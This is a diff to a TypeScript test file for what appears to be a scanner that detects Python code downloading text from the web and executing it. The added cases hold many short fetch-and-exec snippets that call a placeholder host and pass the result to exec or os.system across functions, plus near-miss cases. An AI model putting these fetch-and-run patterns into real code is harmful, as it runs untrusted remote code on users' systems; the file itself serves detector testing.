@@ -112,6 +112,42 @@ for (const [language, id, text] of HITS)
   test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
     assert.ok(found(language, text).includes(id), String(found(language, text))))
 
+/** What comes from a function to another one in Python. */
+const ACROSS: Readonly<Record<string, string>> = {
+  'a parameter': 'def show(t):\n    exec(t)\nshow(requests.get("https://c.example/a").text)',
+  'a parameter by its name':
+    'def go(cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo(cmd=t)',
+  'a parameter behind a text with a bracket':
+    'def go(name, cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo("a)", t)',
+  'parameters that are spread':
+    'def go(name, cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo(*["a", t])',
+  'what is returned':
+    'def load():\n    t = requests.get("https://c.example/a").text\n    return t\nt = load()\nexec(t)',
+  'what is returned, at once':
+    'def load():\n    t = requests.get("https://c.example/a").text\n    return t\nexec(load())',
+  'a field of an object':
+    'class A:\n    def load(self, code):\n        self.code = requests.get("https://c.example/a").text\n    def go(self, code):\n        exec(self.code)',
+  'what is filled':
+    'def load(out):\n    out["a"] = requests.get("https://c.example/a").text\ndef go():\n    out = {}\n    load(out)\n    exec(out["a"])',
+  'a name of all':
+    'def load():\n    global t\n    t = requests.get("https://c.example/a").text\ndef go():\n    exec(t)',
+  'a function within another':
+    'def go():\n    t = requests.get("https://c.example/a").text\n    def show(t):\n        print(t)\n    exec(t)',
+  'a method, and what stands behind it in its class':
+    't = requests.get("https://c.example/a").text\nclass A:\n    def show(self, t):\n        print(t)\n    exec(t)',
+  'whoever is chosen by a table':
+    'def go(t):\n    exec(t)\nACTS = {"a": go}\nt = requests.get("https://c.example/a").text\nACTS["a"](t)',
+  'a head that only a text has':
+    'def show(t):\n    print(t)\ndef go():\n    t = requests.get("https://c.example/a").text\n    note = "a\\ndef show(t):\\n"\n    exec(t)',
+  'a line behind a function that looks like a part of it':
+    't = requests.get("https://c.example/a").text\ndef show(t):\n    note = \'"(\'\nexec(t)',
+  'a value that only a text gives':
+    't = requests.get("https://c.example/a").text\ndef go():\n    """\n    t = 1\n    """\n    exec(t)',
+}
+for (const [name, text] of Object.entries(ACROSS))
+  test(`python, across functions: ${name}`, () =>
+    assert.notDeepEqual(found('python', `import requests, os\n${text}`), []))
+
 const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
   ['javascript', "const r = await fetch(u)\nexec('git status', (e, out) => fetch(v, { method: 'POST', body: out }))"],
   ['javascript', "const w = new WebSocket(u)\nw.on('message', (m) => console.log(m))\nexecSync('npm ci')"],
@@ -147,6 +183,16 @@ const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
     "r = requests.get('https://c.example/a').json()\nfound = Package(name=r['name'])\nsubprocess.run([name, '--version'])",
   ],
   ['python', "r = requests.get('https://c.example/a').json()\nnames.append(r['name'])\nos.system(names[0])"],
+  // The same name in another function is another one: a parameter, and what it is given there.
+  [
+    'python',
+    'def load(cmd):\n    cmd = requests.get("https://c.example/" + cmd).text\n    print(cmd)\ndef go(cmd):\n    subprocess.Popen(cmd)\ngo(["make"])',
+  ],
+  [
+    'python',
+    'class A:\n    def load(self):\n        cmd = urlopen(u).read()\n        print(cmd)\n    def go(self):\n        cmd = [sys.executable, "-c", "pass"]\n        subprocess.Popen(cmd)',
+  ],
+  ['python', "r = requests.get('https://c.example/a')\ncmd = [sys.executable, '-c', r'pass']\nsubprocess.Popen(cmd)"],
   // A message names the module; what is read is a file.
   [
     'perl',
